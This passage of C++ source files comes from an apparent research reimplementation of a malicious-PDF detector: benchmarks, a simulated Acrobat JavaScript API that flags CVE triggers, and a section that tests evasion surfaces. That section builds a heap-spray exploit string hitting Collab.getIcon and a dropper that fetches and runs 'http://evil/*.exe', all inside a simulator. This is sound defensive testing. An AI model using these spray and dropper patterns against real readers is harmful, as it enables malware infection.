  return timer.seconds();
}

}  // namespace

int main() {
  bench::print_header("Sec V-D2", "Context monitoring overhead vs script count");

  support::TextTable table({"# scripts", "plain JS time", "instrumented",
                            "overhead", "overhead/script"});
  double overhead_1 = 0, overhead_20 = 0;
  for (int count : {1, 2, 5, 10, 15, 20}) {
    const support::Bytes file = doc_with_scripts(count, 40 + count);
    // Best of 3 to dampen scheduler noise.
    double plain = 1e9, inst = 1e9;
    for (int run = 0; run < 3; ++run) {
      plain = std::min(plain, js_time_for(file, false, 7));
      inst = std::min(inst, js_time_for(file, true, 7));
    }
    const double overhead = std::max(0.0, inst - plain);
    if (count == 1) overhead_1 = overhead;
    if (count == 20) overhead_20 = overhead;
    table.add_row({std::to_string(count), bench::fmt(plain * 1000, 2) + " ms",
                   bench::fmt(inst * 1000, 2) + " ms",
                   bench::fmt(overhead * 1000, 2) + " ms",
                   bench::fmt(overhead * 1000 / count, 2) + " ms"});
  }
  std::cout << table.render("Javascript execution time (best of 3)");
  std::cout << "paper anchors: 0.093 s overhead for one script; < 2 s at 20"
               " scripts; growth linear. measured growth factor 20x/1x: "
            << bench::fmt(overhead_1 > 0 ? overhead_20 / overhead_1 : 0, 1)
            << " (linear => ~20)\n";

  // Detector footprint (paper: ~19 MB resident; ours is the per-document
  // state table, intentionally tiny).
  sys::Kernel kernel;
  support::Rng rng(3);
  core::RuntimeDetector detector(kernel, rng);
  std::cout << "runtime detector keeps per-document state only (features,"
               " malscore, dropped-file list) — the paper's stand-alone"
               " detector resided in ~19 MB including its SOAP server.\n";
  return 0;
}
