// Table V reproduction: the evaluation dataset summary. The paper used
// 18623 benign documents (994 with Javascript, 11.84 GB) and 7370
// malicious ones (all with Javascript, 172 MB — malicious PDFs are tiny).
// This bench generates the synthetic corpus at the configured scale and
// prints the same summary, plus the family mix behind the malicious side.
#include <map>

#include "bench_util.hpp"
#include "core/jschain.hpp"
#include "pdf/parser.hpp"

using namespace pdfshield;

int main() {
  bench::print_header("Table V", "Dataset used for evaluation");
  const bench::Scale scale = bench::bench_scale();
  corpus::CorpusGenerator gen;

  // Benign side: all documents, JS per the 994/18623 fraction.
  const std::size_t benign_total = scale.benign_with_js * 4;
  std::size_t benign_js = 0;
  std::uint64_t benign_bytes = 0;
  for (const auto& s : gen.generate_benign(benign_total)) {
    benign_bytes += s.data.size();
    if (s.has_javascript) ++benign_js;
  }

  std::size_t mal_js = 0;
  std::uint64_t mal_bytes = 0;
  std::map<std::string, std::size_t> families;
  auto malicious = gen.generate_malicious(scale.malicious);
  for (const auto& s : malicious) {
    mal_bytes += s.data.size();
    if (s.has_javascript) ++mal_js;
    // Family without the "+encrypted" suffix for the histogram.
    std::string family = s.family;
    if (auto plus = family.find('+'); plus != std::string::npos) {
      family.resize(plus);
    }
    ++families[family];
  }

  support::TextTable table({"Category", "# of Samples", "# with Javascript", "Size"});
  table.add_row({"Known Benign", std::to_string(benign_total),
                 std::to_string(benign_js),
                 bench::mb(static_cast<double>(benign_bytes))});
  table.add_row({"Known Malicious", std::to_string(malicious.size()),
                 std::to_string(mal_js),
                 bench::mb(static_cast<double>(mal_bytes))});
  table.add_row({"Total", std::to_string(benign_total + malicious.size()),
                 std::to_string(benign_js + mal_js),
                 bench::mb(static_cast<double>(benign_bytes + mal_bytes))});
  std::cout << table.render("Synthetic corpus at scale " +
                            std::to_string(benign_total) + "/" +
                            std::to_string(malicious.size()) +
                            " (paper: 18623/7370)");

  std::cout << "shape checks: every malicious sample carries Javascript ("
            << mal_js << "/" << malicious.size()
            << "); average malicious file is "
            << bench::fmt(static_cast<double>(mal_bytes) /
                              static_cast<double>(malicious.size()) / 1024.0,
                          1)
            << " KB vs benign "
            << bench::fmt(static_cast<double>(benign_bytes) /
                              static_cast<double>(benign_total) / 1024.0,
                          1)
            << " KB (paper: 23 KB vs 650 KB — malicious documents are tiny)\n\n";

  support::TextTable fam({"malicious family", "count"});
  for (const auto& [family, count] : families) {
    fam.add_row({family, std::to_string(count)});
  }
  std::cout << fam.render("Behaviour-family mix");
  return 0;
}
