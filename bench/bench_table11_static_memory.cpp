// Table XI reproduction: memory overhead of the static front-end by
// document size. The paper counted live Python objects and RSS of its
// Python front-end; our analogue counts pdfshield objects allocated during
// the pipeline plus the transient byte volume handled. Shape target: flat
// for small documents, then roughly linear in document size.
#include "bench_util.hpp"
#include "corpus/builders.hpp"
#include "support/alloc_stats.hpp"

using namespace pdfshield;

namespace {

support::Bytes doc_of_size(std::size_t target_bytes, std::uint64_t seed) {
  support::Rng rng(seed);
  corpus::DocumentBuilder builder(rng);
  const int pages = std::max<int>(1, static_cast<int>(target_bytes / 1060));
  builder.add_pages(pages, 3000);
  builder.add_named_js("s", "var probe = 1;");
  return builder.build();
}

}  // namespace

int main() {
  bench::print_header("Table XI", "Memory overhead of static analysis & instrumentation");

  struct Case {
    const char* label;
    std::size_t bytes;
  };
  const Case cases[] = {
      {"~2 KB", 2u << 10},   {"~9 KB", 9u << 10},   {"~24 KB", 24u << 10},
      {"~325 KB", 325u << 10}, {"~7.0 MB", 7u << 20}, {"~19.7 MB", (19u << 20) + (7u << 16)},
  };

  support::Rng rng(6);
  core::FrontEnd frontend(rng, core::generate_detector_id(rng));

  support::TextTable table(
      {"PDF Size", "actual", "# of pdfshield objects", "approx working bytes"});
  for (const Case& c : cases) {
    const support::Bytes file = doc_of_size(c.bytes, c.bytes + 1);
    support::AllocStats::reset();
    support::AllocScope scope;
    core::FrontEndResult r = frontend.process(file);
    if (!r.ok) return 1;
    // Objects parsed + the document/output buffers currently held.
    const std::uint64_t objects = scope.objects();
    const std::uint64_t bytes =
        static_cast<std::uint64_t>(file.size()) +
        static_cast<std::uint64_t>(r.output.size());
    table.add_row({c.label, bench::mb(static_cast<double>(file.size())),
                   std::to_string(objects), bench::mb(static_cast<double>(bytes))});
  }
  std::cout << table.render("Front-end allocation profile per document");
  std::cout << "paper shape: ~74k Python objects / 5.3 MB flat for small"
               " documents, 1.08M objects / 130 MB at 19.7 MB — growth is"
               " linear in document size once parsing dominates.\n";
  return 0;
}
