// §VI reproduction: the paper's "Limitations and Future Work" items,
// implemented and measured. Each row mounts an attack through one of the
// extension surfaces and reports whether the deployed system handled it:
//   * embedded PDF documents (recursive instrumentation + correlation)
//   * in-browser viewer with progressive rendering and process noise
//   * owner-password-encrypted documents (§III-A password removal)
//   * object-stream-hidden Javascript (PDF 1.5 /ObjStm evasion)
//   * IAT-hook bypass via direct syscalls, with and without the
//     kernel-mode hook hardening
#include "bench_util.hpp"
#include "corpus/builders.hpp"
#include "pdf/crypto.hpp"
#include "reader/browser_sim.hpp"
#include "reader/shellcode.hpp"

using namespace pdfshield;

namespace {

std::string spray_and_trigger(const std::string& shellcode) {
  return "var unit = unescape('%u9090%u9090') + '" + shellcode + "';"
         "var spray = unit; while (spray.length < 2097152) spray += spray;"
         "var keep = spray; Collab.getIcon(keep.substring(0, 1500));";
}

reader::ShellcodeProgram dropper(const std::string& tag, bool direct = false) {
  reader::ShellcodeProgram prog;
  const std::string bang = direct ? "!" : "";
  prog.ops.push_back({bang + "DROP",
                      {"http://evil/" + tag + ".exe", "c:/" + tag + ".exe"}});
  prog.ops.push_back({bang + "EXEC", {"c:/" + tag + ".exe"}});
  return prog;
}

}  // namespace

int main() {
  bench::print_header("Sec VI", "Future-work extensions, implemented and measured");
  support::TextTable table({"extension surface", "attack outcome", "detected",
                            "payload confined"});
  bool all_ok = true;
  auto add = [&](const std::string& surface, const std::string& outcome,
                 bool detected, bool confined) {
    table.add_row({surface, outcome, detected ? "yes" : "NO (!)",
                   confined ? "yes" : "NO (!)"});
    if (!detected || !confined) all_ok = false;
  };
  auto confined = [](sys::Kernel& kernel, const std::string& exe) {
    return !kernel.fs().exists(exe) && kernel.fs().exists("quarantine://" + exe);
  };

  // --- embedded PDF attachment ------------------------------------------------
  {
    bench::Deployment dep(601);
    corpus::CorpusGenerator gen;
    corpus::Sample s = gen.generate_embedded_attack_sample(0);
    core::FrontEndResult fe = dep.frontend.process(s.data);
    dep.detector.register_document(fe.record.key, s.name, fe.features);
    for (const auto& emb : fe.embedded) {
      dep.detector.register_document(emb.record.key, emb.name, emb.features);
    }
    dep.reader.open_document(fe.output, s.name);
    const bool detected = !fe.embedded.empty() &&
                          dep.detector.verdict(fe.embedded[0].record.key).malicious;
    bool loose_exe = false;
    for (const auto& f : dep.kernel.fs().list()) {
      if (f.find(".exe") != std::string::npos &&
          !sys::VirtualFileSystem::is_quarantined(f) &&
          f.rfind("sandbox://", 0) != 0) {
        loose_exe = true;
      }
    }
    add("embedded PDF (exportDataObject nLaunch=2)",
        "attachment opened, exploit fired in embedded context", detected,
        !loose_exe);
  }

  // --- in-browser viewer, progressive download --------------------------------
  {
    sys::Kernel kernel;
    support::Rng rng(602);
    core::DetectorConfig cfg;
    cfg.process_whitelist.push_back("browser-helper.exe");
    core::RuntimeDetector detector(kernel, rng, cfg);
    core::FrontEnd frontend(rng, detector.detector_id());
    reader::BrowserSim browser(kernel);
    detector.attach(browser.viewer());

    for (int i = 0; i < 4; ++i) browser.open_web_page("https://tab.example");
    corpus::DocumentBuilder builder(rng);
    builder.add_blank_page();
    builder.set_open_action_js(
        spray_and_trigger(reader::encode_shellcode(dropper("brw"))));
    core::FrontEndResult fe = frontend.process(builder.build());
    detector.register_document(fe.record.key, "brw.pdf", fe.features);
    browser.open_pdf_streaming(fe.output, "brw.pdf", 6);
    add("in-browser viewer (6-chunk progressive, 4 noisy tabs)",
        "exploit fired mid-download", detector.verdict(fe.record.key).malicious,
        confined(kernel, "c:/brw.exe") && detector.alerts().size() == 1);
  }

  // --- owner-password encryption ------------------------------------------------
  {
    bench::Deployment dep(603);
    corpus::DocumentBuilder builder(dep.rng);
    builder.add_blank_page();
    builder.set_open_action_js(
        spray_and_trigger(reader::encode_shellcode(dropper("enc"))));
    pdf::encrypt_document(builder.document(), "anti-analysis-pw", dep.rng);
    core::FrontEndResult fe = dep.frontend.process(builder.build());
    dep.detector.register_document(fe.record.key, "enc.pdf", fe.features);
    dep.reader.open_document(fe.output, "enc.pdf");
    add("owner-password-encrypted document (RC4, R3)",
        std::string("front-end removed the password: ") +
            (fe.password_removed ? "yes" : "no"),
        dep.detector.verdict(fe.record.key).malicious,
        confined(dep.kernel, "c:/enc.exe"));
  }

  // --- object-stream-hidden Javascript ---------------------------------------
  {
    bench::Deployment dep(604);
    corpus::DocumentBuilder builder(dep.rng);
    builder.add_blank_page();
    builder.set_open_action_js(
        spray_and_trigger(reader::encode_shellcode(dropper("ostm"))));
    builder.pack_js_into_object_stream();
    core::FrontEndResult fe = dep.frontend.process(builder.build());
    dep.detector.register_document(fe.record.key, "ostm.pdf", fe.features);
    dep.reader.open_document(fe.output, "ostm.pdf");
    add("Javascript hidden in /ObjStm (PDF 1.5)",
        "chain reconstruction reached into the container",
        dep.detector.verdict(fe.record.key).malicious,
        confined(dep.kernel, "c:/ostm.exe"));
  }

  // --- IAT bypass: prototype hooks vs kernel-mode hardening -------------------
  for (int kernel_mode = 0; kernel_mode < 2; ++kernel_mode) {
    sys::Kernel kernel;
    support::Rng rng(605 + kernel_mode);
    core::DetectorConfig cfg;
    cfg.hook_mode = kernel_mode ? core::DetectorConfig::HookMode::kKernelMode
                                : core::DetectorConfig::HookMode::kIat;
    core::RuntimeDetector detector(kernel, rng, cfg);
    core::FrontEnd frontend(rng, detector.detector_id());
    reader::ReaderSim reader(kernel);
    detector.attach(reader);

    corpus::DocumentBuilder builder(rng);
    builder.add_pages(5, 600);  // mimicry-grade: no static feature help
    builder.add_padding_objects(40);
    builder.set_open_action_js(spray_and_trigger(
        reader::encode_shellcode(dropper("dir", /*direct=*/true))));
    core::FrontEndResult fe = frontend.process(builder.build());
    detector.register_document(fe.record.key, "dir.pdf", fe.features);
    reader.open_document(fe.output, "dir.pdf");
    const bool detected = detector.verdict(fe.record.key).malicious;
    const bool payload_confined = confined(kernel, "c:/dir.exe");
    table.add_row(
        {kernel_mode ? "direct-syscall shellcode vs KERNEL-mode hooks"
                     : "direct-syscall shellcode vs IAT hooks (prototype)",
         kernel_mode ? "bypass closed" : "bypass succeeds (known limitation)",
         detected ? "yes" : (kernel_mode ? "NO (!)" : "no (expected)"),
         payload_confined ? "yes" : (kernel_mode ? "NO (!)" : "no (expected)")});
    if (kernel_mode && (!detected || !payload_confined)) all_ok = false;
  }

  std::cout << table.render("Attacks through the extension surfaces");
  std::cout << (all_ok ? "all extension surfaces hold (the IAT-bypass row"
                         " documents the paper's own prototype limitation,"
                         " closed by kernel-mode hooks).\n"
                       : "WARNING: an extension surface failed.\n");
  return all_ok ? 0 : 1;
}
