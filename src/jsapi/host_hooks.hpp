// Interface the Acrobat JS API uses to talk back to its host (the reader
// simulator). Keeps jsapi free of a dependency on the reader module.
#pragma once

#include <string>

#include "js/value.hpp"
#include "support/bytes.hpp"

namespace pdfshield::jsapi {

/// Callbacks from Javascript into the hosting reader.
class HostHooks {
 public:
  virtual ~HostHooks() = default;

  /// A Javascript API was invoked in a way that exploits `cve`
  /// (e.g. util.printf with a huge width). The host decides whether the
  /// exploit actually fires (version gating, spray checks, crash).
  virtual void exploit_attempt(const std::string& cve) = 0;

  /// Doc.addScript / Doc.setAction / Doc.setPageAction / Field.setAction /
  /// Bookmark.setAction: a script was added at runtime (staged attacks,
  /// paper §IV Table IV). The host queues it for later execution.
  virtual void script_added(const std::string& name,
                            const std::string& source) = 0;

  /// app.setTimeOut / app.setInterval: delayed execution (paper §IV).
  virtual void script_delayed(const std::string& source, double millis) = 0;

  /// SOAP.request to `url`. Returns true and fills `response` when the URL
  /// is served locally (the runtime detector's SOAP server); false means
  /// the request goes to the (monitored) network.
  virtual bool soap_request(const std::string& url, const js::Value& payload,
                            js::Value* response) = 0;

  /// Doc.exportDataObject with nLaunch >= 2 on a PDF attachment: the
  /// reader opens the embedded document (§VI embedded-PDF handling).
  virtual void open_embedded(const std::string& name,
                             const support::Bytes& data) = 0;
};

}  // namespace pdfshield::jsapi
