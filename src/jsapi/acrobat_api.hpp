// The Acrobat Javascript API surface ("JavaScript for Acrobat API
// Reference"), bound to the simulated kernel and reader. This is what
// document Javascript — benign form logic, the paper's context monitoring
// code, and the exploit corpus — programs against:
//
//   app        alert, viewerVersion, setTimeOut/setInterval, launchURL, ...
//   this (Doc) info.*, getField, addScript, setAction, getAnnots,
//              exportDataObject, media.newPlayer, ...
//   util       printf (CVE-2008-2992 path), printd, byteToChar
//   Collab     getIcon (CVE-2009-0927 path)
//   SOAP       request/connect — the channel the instrumented monitoring
//              code uses to reach the runtime detector
//   Net        HTTP (unavailable inside documents, per the reference)
//
// Memory wiring: every JS string/array allocation is charged to the host
// process at `memory_scale`× so reported working-set numbers land on the
// paper's MB scale while physical cost stays small (see DESIGN.md).
#pragma once

#include <cstdint>
#include <map>
#include <string>

#include "js/interp.hpp"
#include "jsapi/host_hooks.hpp"
#include "sys/kernel.hpp"

namespace pdfshield::jsapi {

/// Static facts about the hosting document, extracted from its /Info
/// dictionary and form fields. Exploit corpora hide payload pieces here
/// ("this.info.title" shellcode — the extraction-evasion trick of §II).
struct DocFacts {
  std::string name;  ///< File name, for reports.
  std::map<std::string, std::string> info;    ///< Title, Author, ...
  std::map<std::string, std::string> fields;  ///< field name -> value
  /// Embedded file attachments (/Names /EmbeddedFiles), decoded contents.
  std::map<std::string, support::Bytes> attachments;
};

struct ApiConfig {
  double viewer_version = 9.0;
  std::uint64_t memory_scale = 64;  ///< physical byte -> reported bytes
  std::size_t spray_capture_bytes = 128 * 1024;  ///< payload prefix kept
};

/// Binds the full Acrobat API into an interpreter. One binding per open
/// document (each document gets a fresh interpreter, matching Acrobat's
/// per-document script contexts).
class AcrobatApi {
 public:
  AcrobatApi(js::Interpreter& interp, sys::Kernel& kernel, int pid,
             HostHooks& hooks, DocFacts facts, ApiConfig config = {});

  /// Reported bytes this document's Javascript has allocated so far.
  std::uint64_t js_allocated_reported() const { return js_allocated_; }

  const DocFacts& facts() const { return facts_; }

 private:
  void install_app();
  void install_doc();
  void install_util();
  void install_collab();
  void install_soap_and_net();
  void wire_memory_accounting();

  js::Interpreter& interp_;
  sys::Kernel& kernel_;
  int pid_;
  HostHooks& hooks_;
  DocFacts facts_;
  ApiConfig config_;
  std::uint64_t js_allocated_ = 0;
};

}  // namespace pdfshield::jsapi
