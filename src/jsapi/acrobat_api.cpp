#include "jsapi/acrobat_api.hpp"

#include <cctype>
#include <cmath>
#include <cstdio>
#include <cstdlib>

namespace pdfshield::jsapi {

using js::make_native_function;
using js::make_object;
using js::ObjectPtr;
using js::Value;

namespace {

Value arg_or_undef(const std::vector<Value>& args, std::size_t i) {
  return i < args.size() ? args[i] : Value();
}

std::string value_prop_string(js::Interpreter& in, const Value& obj,
                              const std::string& key) {
  if (!obj.is_object()) return {};
  const Value v = obj.as_object()->get(key);
  return v.is_undefined() ? std::string() : in.to_js_string(v);
}

}  // namespace

AcrobatApi::AcrobatApi(js::Interpreter& interp, sys::Kernel& kernel, int pid,
                       HostHooks& hooks, DocFacts facts, ApiConfig config)
    : interp_(interp),
      kernel_(kernel),
      pid_(pid),
      hooks_(hooks),
      facts_(std::move(facts)),
      config_(config) {
  wire_memory_accounting();
  install_app();
  install_doc();
  install_util();
  install_collab();
  install_soap_and_net();
}

void AcrobatApi::wire_memory_accounting() {
  sys::Process* proc = kernel_.process(pid_);
  const std::uint64_t scale = config_.memory_scale;
  const std::size_t capture = config_.spray_capture_bytes;
  interp_.on_alloc = [this, proc, scale](std::size_t bytes) {
    const std::uint64_t reported = static_cast<std::uint64_t>(bytes) * scale;
    js_allocated_ += reported;
    if (proc) proc->alloc(reported);
  };
  interp_.on_large_string = [proc, capture](const std::string& s) {
    if (proc) proc->sprayed_payloads().push_back(s.substr(0, capture));
  };
}

// ---------------------------------------------------------------------------
// app
// ---------------------------------------------------------------------------

void AcrobatApi::install_app() {
  auto app = make_object();
  app->class_name = "App";
  app->set("viewerVersion", Value(config_.viewer_version));
  app->set("viewerType", Value("Reader"));
  app->set("platform", Value("WIN"));
  app->set("language", Value("ENU"));

  app->set("alert", Value(make_native_function(
                        [](js::Interpreter&, const Value&, const std::vector<Value>&) {
                          // Modal UI: invisible to the detector, no-op here.
                          return Value(1.0);
                        })));
  app->set("beep", Value(make_native_function(
                       [](js::Interpreter&, const Value&, const std::vector<Value>&) {
                         return Value();
                       })));

  app->set("setTimeOut",
           Value(make_native_function(
               [this](js::Interpreter& in, const Value&, const std::vector<Value>& args) {
                 const std::string src = in.to_js_string(arg_or_undef(args, 0));
                 const double ms = js::Interpreter::to_number(arg_or_undef(args, 1));
                 hooks_.script_delayed(src, std::isnan(ms) ? 0 : ms);
                 auto timer = make_object();
                 timer->class_name = "Timeout";
                 return Value(timer);
               })));
  app->set("setInterval",
           Value(make_native_function(
               [this](js::Interpreter& in, const Value&, const std::vector<Value>& args) {
                 const std::string src = in.to_js_string(arg_or_undef(args, 0));
                 const double ms = js::Interpreter::to_number(arg_or_undef(args, 1));
                 hooks_.script_delayed(src, std::isnan(ms) ? 0 : ms);
                 auto timer = make_object();
                 timer->class_name = "Interval";
                 return Value(timer);
               })));
  app->set("clearTimeOut", Value(make_native_function(
                               [](js::Interpreter&, const Value&, const std::vector<Value>&) {
                                 return Value();
                               })));

  // launchURL / mailMsg open *third-party* applications (browser, mail
  // client); the paper's detector explicitly does not monitor those.
  app->set("launchURL", Value(make_native_function(
                            [](js::Interpreter&, const Value&, const std::vector<Value>&) {
                              return Value(true);
                            })));
  app->set("mailMsg", Value(make_native_function(
                          [](js::Interpreter&, const Value&, const std::vector<Value>&) {
                            return Value(true);
                          })));

  interp_.set_global("app", Value(app));
}

// ---------------------------------------------------------------------------
// Doc ("this" at document level)
// ---------------------------------------------------------------------------

void AcrobatApi::install_doc() {
  auto doc = make_object();
  doc->class_name = "Doc";

  // this.info.* — document metadata. Obfuscated samples stash payload
  // fragments here precisely because extract-and-emulate tools lose them.
  auto info = make_object();
  info->class_name = "Info";
  for (const auto& [k, v] : facts_.info) info->set(k, Value(v));
  doc->set("info", Value(info));
  if (facts_.info.count("Title")) doc->set("title", Value(facts_.info.at("Title")));
  doc->set("numPages", Value(1.0));
  doc->set("path", Value("/c/docs/" + facts_.name));
  doc->set("documentFileName", Value(facts_.name));

  doc->set("getField",
           Value(make_native_function(
               [this](js::Interpreter& in, const Value&, const std::vector<Value>& args) {
                 const std::string name = in.to_js_string(arg_or_undef(args, 0));
                 auto it = facts_.fields.find(name);
                 if (it == facts_.fields.end()) return Value(js::Null{});
                 auto field = make_object();
                 field->class_name = "Field";
                 field->set("name", Value(it->first));
                 field->set("value", Value(it->second));
                 field->set("setAction",
                            Value(make_native_function(
                                [this](js::Interpreter& in2, const Value&,
                                       const std::vector<Value>& a2) {
                                  hooks_.script_added(
                                      "field-action",
                                      in2.to_js_string(arg_or_undef(a2, 1)));
                                  return Value();
                                })));
                 return Value(field);
               })));

  doc->set("addScript",
           Value(make_native_function(
               [this](js::Interpreter& in, const Value&, const std::vector<Value>& args) {
                 hooks_.script_added(in.to_js_string(arg_or_undef(args, 0)),
                                     in.to_js_string(arg_or_undef(args, 1)));
                 return Value();
               })));
  auto set_action = make_native_function(
      [this](js::Interpreter& in, const Value&, const std::vector<Value>& args) {
        // setAction(trigger, script) / setPageAction(page, trigger, script):
        // the script is the last argument.
        const std::string src =
            args.empty() ? std::string() : in.to_js_string(args.back());
        hooks_.script_added("set-action", src);
        return Value();
      });
  doc->set("setAction", Value(ObjectPtr(set_action)));
  doc->set("setPageAction", Value(ObjectPtr(set_action)));

  doc->set("getAnnots",
           Value(make_native_function(
               [this](js::Interpreter& in, const Value&, const std::vector<Value>& args) {
                 // CVE-2009-1492: crafted negative page index.
                 if (!args.empty() &&
                     js::Interpreter::to_number(args[0]) < 0) {
                   hooks_.exploit_attempt("CVE-2009-1492");
                 }
                 (void)in;
                 return Value(js::make_array());
               })));
  doc->set("syncAnnotScan", Value(make_native_function(
                                [](js::Interpreter&, const Value&, const std::vector<Value>&) {
                                  return Value();
                                })));

  // this.media.newPlayer(null) — CVE-2009-4324 use-after-free.
  auto media = make_object();
  media->class_name = "Media";
  media->set("newPlayer",
             Value(make_native_function(
                 [this](js::Interpreter&, const Value&, const std::vector<Value>& args) {
                   if (!args.empty() && args[0].is_null()) {
                     hooks_.exploit_attempt("CVE-2009-4324");
                   }
                   return Value(js::Null{});
                 })));
  doc->set("media", Value(media));

  // exportDataObject: legitimately saves an attachment; nLaunch >= 2 makes
  // Acrobat launch it — the classic embedded-dropper path. PDF attachments
  // are opened by the reader itself (embedded-document handling, §VI).
  doc->set("exportDataObject",
           Value(make_native_function(
               [this](js::Interpreter& in, const Value&, const std::vector<Value>& args) {
                 const Value spec = arg_or_undef(args, 0);
                 const std::string cname = value_prop_string(in, spec, "cName");
                 const double launch =
                     js::Interpreter::to_number(
                         spec.is_object() ? spec.as_object()->get("nLaunch") : Value());
                 auto it = facts_.attachments.find(cname);
                 const std::string contents =
                     it != facts_.attachments.end()
                         ? support::to_string(it->second)
                         : std::string("attachment");
                 const std::string path = "c:/temp/" + (cname.empty() ? "export.bin" : cname);
                 kernel_.call_api(pid_, "NtCreateFile", {path, contents});
                 if (!std::isnan(launch) && launch >= 2) {
                   if (it != facts_.attachments.end() &&
                       contents.find("%PDF") != std::string::npos) {
                     hooks_.open_embedded(cname, it->second);
                   } else {
                     kernel_.call_api(pid_, "NtCreateProcess", {path});
                   }
                 }
                 return Value();
               })));

  doc->set("closeDoc", Value(make_native_function(
                           [](js::Interpreter&, const Value&, const std::vector<Value>&) {
                             return Value();
                           })));

  // Bookmark tree: the last Table-IV surface (Bookmark.setAction).
  auto bookmark_root = make_object();
  bookmark_root->class_name = "Bookmark";
  bookmark_root->set("name", Value("root"));
  bookmark_root->set("setAction",
                     Value(make_native_function(
                         [this](js::Interpreter& in, const Value&,
                                const std::vector<Value>& args) {
                           hooks_.script_added(
                               "bookmark-action",
                               in.to_js_string(arg_or_undef(args, 0)));
                           return Value();
                         })));
  bookmark_root->set("children", Value(js::make_array()));
  doc->set("bookmarkRoot", Value(bookmark_root));

  // XFA entry point: crafted use triggers the (patched-here) CVE-2013-0640.
  doc->set("xfa", Value(make_native_function(
                      [this](js::Interpreter&, const Value&, const std::vector<Value>&) {
                        hooks_.exploit_attempt("CVE-2013-0640");
                        return Value();
                      })));

  interp_.set_global("event", Value([&] {
                       auto event = make_object();
                       event->class_name = "Event";
                       event->set("target", Value(doc));
                       event->set("name", Value("Open"));
                       return event;
                     }()));
  interp_.set_global_this(Value(doc));
  // Scripts also reference the doc as "this.doc" via app.doc.
  if (Value* app = interp_.globals()->lookup("app"); app && app->is_object()) {
    app->as_object()->set("doc", Value(doc));
  }
}

// ---------------------------------------------------------------------------
// util
// ---------------------------------------------------------------------------

void AcrobatApi::install_util() {
  auto util = make_object();
  util->class_name = "Util";

  util->set("printf",
            Value(make_native_function(
                [this](js::Interpreter& in, const Value&, const std::vector<Value>& args) {
                  const std::string fmt = in.to_js_string(arg_or_undef(args, 0));
                  // CVE-2008-2992: util.printf("%45000f", ...) stack overflow —
                  // any conversion with an absurd width is an exploit attempt.
                  std::size_t i = 0;
                  while ((i = fmt.find('%', i)) != std::string::npos) {
                    std::size_t j = i + 1;
                    std::string width;
                    while (j < fmt.size() &&
                           std::isdigit(static_cast<unsigned char>(fmt[j]))) {
                      width.push_back(fmt[j++]);
                    }
                    if (width.size() >= 4 && std::atol(width.c_str()) >= 1000) {
                      hooks_.exploit_attempt("CVE-2008-2992");
                      return Value("");
                    }
                    i = j;
                  }
                  // Benign path: minimal %s/%d/%f formatting.
                  std::string out;
                  std::size_t argi = 1;
                  for (std::size_t k = 0; k < fmt.size(); ++k) {
                    if (fmt[k] != '%' || k + 1 >= fmt.size()) {
                      out.push_back(fmt[k]);
                      continue;
                    }
                    const char conv = fmt[++k];
                    if (conv == '%') {
                      out.push_back('%');
                    } else if (conv == 's') {
                      out += in.to_js_string(arg_or_undef(args, argi++));
                    } else if (conv == 'd') {
                      out += std::to_string(static_cast<long long>(
                          js::Interpreter::to_number(arg_or_undef(args, argi++))));
                    } else if (conv == 'f') {
                      char buf[32];
                      std::snprintf(buf, sizeof(buf), "%f",
                                    js::Interpreter::to_number(arg_or_undef(args, argi++)));
                      out += buf;
                    } else {
                      out.push_back(conv);
                    }
                  }
                  return in.make_string(std::move(out));
                })));

  util->set("printd", Value(make_native_function(
                          [](js::Interpreter&, const Value&, const std::vector<Value>&) {
                            return Value("2014-06-23");
                          })));
  util->set("byteToChar",
            Value(make_native_function(
                [](js::Interpreter& in, const Value&, const std::vector<Value>& args) {
                  const int code =
                      static_cast<int>(in.to_number(arg_or_undef(args, 0))) & 0xff;
                  return in.make_string(std::string(1, static_cast<char>(code)));
                })));

  interp_.set_global("util", Value(util));
}

// ---------------------------------------------------------------------------
// Collab
// ---------------------------------------------------------------------------

void AcrobatApi::install_collab() {
  auto collab = make_object();
  collab->class_name = "Collab";
  collab->set("getIcon",
              Value(make_native_function(
                  [this](js::Interpreter& in, const Value&, const std::vector<Value>& args) {
                    const std::string name = in.to_js_string(arg_or_undef(args, 0));
                    // CVE-2009-0927: oversized icon-name buffer overflow.
                    if (name.size() > 1024) hooks_.exploit_attempt("CVE-2009-0927");
                    return Value(js::Null{});
                  })));
  collab->set("collectEmailInfo",
              Value(make_native_function(
                  [this](js::Interpreter& in, const Value&, const std::vector<Value>& args) {
                    const std::string msg = in.to_js_string(arg_or_undef(args, 0));
                    // CVE-2007-5659-family: treated as the printf-era bug on v8.
                    if (msg.size() > 1024) hooks_.exploit_attempt("CVE-2008-2992");
                    return Value();
                  })));
  interp_.set_global("Collab", Value(collab));
}

// ---------------------------------------------------------------------------
// SOAP / Net
// ---------------------------------------------------------------------------

void AcrobatApi::install_soap_and_net() {
  auto soap = make_object();
  soap->class_name = "SOAP";
  soap->set("request",
            Value(make_native_function(
                [this](js::Interpreter& in, const Value&, const std::vector<Value>& args) {
                  const Value spec = arg_or_undef(args, 0);
                  const std::string url = value_prop_string(in, spec, "cURL");
                  const Value payload =
                      spec.is_object() ? spec.as_object()->get("oRequest") : Value();
                  Value response;
                  if (hooks_.soap_request(url, payload, &response)) {
                    return response;  // served by the local runtime detector
                  }
                  // External SOAP endpoint: a real, monitored connection.
                  kernel_.call_api(pid_, "connect", {url, "80"});
                  return Value(js::Null{});
                })));
  soap->set("connect",
            Value(make_native_function(
                [this](js::Interpreter& in, const Value&, const std::vector<Value>& args) {
                  const std::string url = in.to_js_string(arg_or_undef(args, 0));
                  Value response;
                  if (hooks_.soap_request(url, Value(), &response)) return response;
                  kernel_.call_api(pid_, "connect", {url, "80"});
                  return Value(js::Null{});
                })));
  interp_.set_global("SOAP", Value(soap));

  // Net.HTTP exists in the API reference but "can be invoked only outside
  // of a document" — inside a document every call throws.
  auto net = make_object();
  net->class_name = "Net";
  auto http = make_object();
  http->class_name = "NetHTTP";
  http->set("request",
            Value(make_native_function(
                [](js::Interpreter&, const Value&, const std::vector<Value>&) -> Value {
                  throw js::JsException(
                      Value("NotAllowedError: Net.HTTP is not available in "
                            "this context"));
                })));
  net->set("HTTP", Value(http));
  interp_.set_global("Net", Value(net));
}

}  // namespace pdfshield::jsapi
