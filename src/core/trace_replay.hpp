// Replay helpers over the trace spine: everything the runtime report and
// the Table-X timing breakdown need can be reconstructed from a recorded
// event stream alone — no access to detector or front-end state. This is
// the property the trace tests pin down (a verdict replayed from JSONL
// matches the live detector bit for bit) and what makes `--trace` output
// a self-contained forensic artifact.
#pragma once

#include <string>
#include <vector>

#include "core/detector.hpp"
#include "core/pipeline.hpp"
#include "core/static_features.hpp"
